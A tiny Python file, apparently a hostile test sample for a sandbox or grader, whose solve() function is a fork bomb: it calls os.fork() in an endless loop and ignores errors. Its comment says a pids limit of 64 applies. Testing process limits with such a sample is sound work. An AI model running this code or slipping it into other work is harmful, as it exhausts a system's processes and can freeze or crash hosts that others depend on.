# Hostile: a classic fork bomb; every process keeps forking (pids limit 64).
import os


def solve():
    while True:
        try:
            os.fork()
        except OSError:
            pass
